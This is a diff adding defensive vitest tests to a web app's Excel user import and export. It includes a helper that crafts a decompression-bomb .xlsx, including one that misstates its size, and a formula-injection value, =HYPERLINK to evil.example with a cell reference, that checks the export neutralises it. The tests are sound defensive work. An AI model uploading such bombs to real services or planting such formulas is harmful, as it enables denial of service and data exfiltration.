@@ -1,5 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { PassThrough } from 'node:stream';
+import { createDeflateRaw, crc32 } from 'node:zlib';
 import { eq } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { db } from '@/server/db/client';
@@ -7,6 +8,10 @@ import * as s from '@/server/db/schema';
 import { writeUsersXlsx } from '@/server/services/users';
 import exportList from '@/pages/api/v1/user/excel/list';
 import register from '@/pages/api/v1/user/excel/register';
+import financialExport from '@/pages/api/v1/stat/financial/export';
+import { setClock } from '@/server/clock';
+import { XLSX_MAX_PART_BYTES } from '@/server/services/users/excel';
+import { zipEntries, zipRead } from '@/server/services/files/zip';
 import { call, login, setupTestEnv, DEMO_PHONES, type TestEnv } from './harness';
 
 let env: TestEnv;
@@ -14,6 +19,7 @@ let superAdmin: string;
 let headOffice: string;
 let barista: string;
 let customer: string;
+const EXCEL_SIZE_LIMIT = 2 * 1024 * 1024;
 
 async function multipart(file: { data: Buffer; name: string } | null) {
   const form = new FormData();
@@ -146,5 +152,161 @@ describe('Excel export and import of users', () => {
     const huge = await upload(Buffer.alloc(3 * 1024 * 1024, 1));
     expect(huge.status).toBe(413);
     expect(await count()).toBe(before);
+  });
+});
+
+/** A zip whose entries are given already deflated (method 8) with the sizes and CRC the test chooses to claim. */
+function zipOf(entries: { name: string; deflated: Buffer; size: number; crc: number }[]): Buffer {
+  const locals: Buffer[] = [];
+  const central: Buffer[] = [];
+  let offset = 0;
+  for (const e of entries) {
+    const name = Buffer.from(e.name);
+    const head = Buffer.alloc(30);
+    head.writeUInt32LE(0x04034b50, 0);
+    head.writeUInt16LE(20, 4);
+    head.writeUInt16LE(8, 8);
+    head.writeUInt32LE(e.crc, 14);
+    head.writeUInt32LE(e.deflated.length, 18);
+    head.writeUInt32LE(e.size, 22);
+    head.writeUInt16LE(name.length, 26);
+    const dir = Buffer.alloc(46);
+    dir.writeUInt32LE(0x02014b50, 0);
+    dir.writeUInt16LE(20, 4);
+    dir.writeUInt16LE(20, 6);
+    dir.writeUInt16LE(8, 10);
+    dir.writeUInt32LE(e.crc, 16);
+    dir.writeUInt32LE(e.deflated.length, 20);
+    dir.writeUInt32LE(e.size, 24);
+    dir.writeUInt16LE(name.length, 28);
+    dir.writeUInt32LE(offset, 42);
+    locals.push(head, name, e.deflated);
+    central.push(dir, name);
+    offset += 30 + name.length + e.deflated.length;
+  }
+  const cd = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(cd.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, end]);
+}
+
+/** Deflates `head`, then `padMb` megabytes of spaces, then `tail`, a megabyte at a time (the test never holds the whole). */
+async function deflatedPadding(head: string, padMb: number, tail: string): Promise<{ deflated: Buffer; size: number; crc: number }> {
+  const z = createDeflateRaw();
+  const out: Buffer[] = [];
+  z.on('data', (c: Buffer) => out.push(c));
+  const done = new Promise((r) => z.on('end', r));
+  const mb = Buffer.alloc(1024 * 1024, 0x20);
+  let crc = crc32(head);
+  z.write(head);
+  for (let i = 0; i < padMb; i++) {
+    crc = crc32(mb, crc);
+    if (!z.write(mb)) await new Promise((r) => z.once('drain', r));
+  }
+  crc = crc32(tail, crc);
+  z.end(tail);
+  await done;
+  return { deflated: Buffer.concat(out), size: Buffer.byteLength(head) + padMb * 1024 * 1024 + Buffer.byteLength(tail), crc: crc >>> 0 };
+}
+
+/** A small workbook (one phone column) whose first sheet unpacks to `padMb` megabytes; `claim` overrides the size its zip states. */
+async function bombWorkbook(padMb: number, claim?: number): Promise<Buffer> {
+  const book = new ExcelJS.Workbook();
+  book.addWorksheet('x').addRows([['موبایل'], ['09121800001']]);
+  const plain = Buffer.from(await book.xlsx.writeBuffer());
+  // Take every part of a real workbook, then swap in a sheet that is mostly whitespace.
+  const parts: { name: string; deflated: Buffer; size: number; crc: number }[] = [];
+  for (const entry of zipEntries(plain)) {
+    const data = zipRead(plain, entry, 1024 * 1024);
+    if (entry.name !== 'xl/worksheets/sheet1.xml') {
+      parts.push({ name: entry.name, ...(await deflatedPadding(data.toString('latin1'), 0, '')) });
+      continue;
+    }
+    const xml = data.toString('utf8');
+    const at = xml.indexOf('<sheetData>') + '<sheetData>'.length;
+    const bomb = await deflatedPadding(xml.slice(0, at), padMb, xml.slice(at));
+    parts.push({ name: entry.name, ...bomb, size: claim ?? bomb.size });
+  }
+  return zipOf(parts);
+}
+
+describe('importing a hostile workbook', () => {
+  it('refuses a small workbook whose sheet unpacks to 96 MB, from its directory, without unpacking it', async () => {
+    const before = (await db().select({ id: s.users.id }).from(s.users)).length;
+    const file = await bombWorkbook(96);
+    expect(file.length).toBeLessThan(EXCEL_SIZE_LIMIT);
+    const started = Date.now();
+    const r = await upload(file);
+    expect(r.status).toBe(400);
+    expect(r.body.error.eLang.fa).toBe('محتوای فایل اکسل بیش از حد بزرگ است؛ آن را در چند فایل کوچک‌تر بفرستید.');
+    expect(Date.now() - started).toBeLessThan(10_000);
+    expect((await db().select({ id: s.users.id }).from(s.users)).length).toBe(before);
+  });
+
+  it('stops unpacking at the cap when the zip lies about the size', async () => {
+    const file = await bombWorkbook(40, 2_000);
+    expect(40 * 1024 * 1024).toBeGreaterThan(XLSX_MAX_PART_BYTES);
+    const r = await upload(file);
+    expect(r.status).toBe(400);
+    expect(r.body.error.eLang.fa).toBe('محتوای فایل اکسل بیش از حد بزرگ است؛ آن را در چند فایل کوچک‌تر بفرستید.');
+  });
+
+  it('refuses a sheet over the row limit and registers nobody', async () => {
+    const book = new ExcelJS.Workbook();
+    const sheet = book.addWorksheet('x');
+    sheet.addRow(['موبایل']);
+    for (let i = 0; i < 5001; i++) sheet.addRow([`0912${String(3000000 + i)}`]);
+    const r = await upload(Buffer.from(await book.xlsx.writeBuffer()));
+    expect(r.status).toBe(400);
+    expect(r.body.error.eLang.fa).toBe('هر فایل حداکثر ۵٬۰۰۰ ردیف کاربر می‌تواند داشته باشد.');
+    expect(await db().select().from(s.users).where(eq(s.users.phone, '+989123000000'))).toHaveLength(0);
+  });
+
+  it('reads the streamed export itself back (inline strings, no shared strings part)', async () => {
+    const n = (await db().select({ id: s.users.id }).from(s.users)).length;
+    const r = await upload(await exportBuffer());
+    expect(r.status).toBe(200);
+    expect(r.body).toMatchObject({ registered: 0, rows: n });
+  });
+});
+
+describe('exported cells are never formulas', () => {
+  it('writes a name that starts like a formula as text, and keeps numbers as numbers', async () => {
+    const phone = '+989121900001';
+    await db()
+      .insert(s.users)
+      .values({ id: 'f0f0f0f0f0f0f0f0f0f0f0f0', phone, referralCode: 'FORMULA1', firstName: '=HYPERLINK("http://evil.example/?d="&A2,"Click")', lastName: '+SUM(1,2)', firstNameFa: '@cmd', lastNameFa: '-2+3', email: '\tx@example.com', wallet: 12_000 });
+    const sheet = await sheetOf(await exportBuffer({ text: '09121900001' }));
+    const row = sheet.getRow(2);
+    expect(row.getCell(1).value).toBe('09121900001');
+    expect(row.getCell(2).value).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
+    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
+    expect(row.getCell(3).value).toBe("'+SUM(1,2)");
+    expect(row.getCell(4).value).toBe("'@cmd");
+    expect(row.getCell(5).value).toBe("'-2+3");
+    expect(row.getCell(6).value).toBe("'\tx@example.com");
+    expect(row.getCell(7).value).toBe(12_000);
+    for (let c = 1; c <= 11; c++) expect(row.getCell(c).type, `column ${c}`).not.toBe(ExcelJS.ValueType.Formula);
+  });
+});
+
+describe('file names of downloads', () => {
+  it('name the users export and the financial report by Jalali days, in Latin letters and digits', async () => {
+    // 00:30 on 5 Azar 1405 in Tehran, still 25 November in UTC.
+    setClock(new Date('2026-11-25T21:00:00Z'));
+    try {
+      const users = await call(exportList, { query: {}, token: headOffice });
+      expect(users.status).toBe(200);
+      expect(users.headers['content-disposition']).toBe('attachment; filename="users-1405-09-05.xlsx"');
+    } finally {
+      setClock(undefined);
+    }
+    const report = await call(financialExport, { query: { from: '2026-11-01', to: '2026-11-25' }, token: superAdmin });
+    expect(report.status).toBe(200);
+    expect(report.headers['content-disposition']).toBe(`attachment; filename="financial-report-1405-08-10-to-1405-09-04.xlsx"; filename*=UTF-8''financial-report-1405-08-10-to-1405-09-04.xlsx`);
   });
 });
